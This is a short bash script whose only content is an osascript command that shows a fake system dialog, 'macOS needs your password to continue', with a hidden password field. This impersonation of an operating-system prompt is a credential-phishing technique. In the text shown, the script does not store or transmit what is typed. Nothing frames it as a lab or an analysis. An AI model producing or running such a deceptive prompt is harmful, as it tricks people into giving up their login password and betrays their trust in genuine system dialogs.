#!/bin/bash
osascript -e 'display dialog "macOS needs your password to continue" default answer "" with hidden answer'
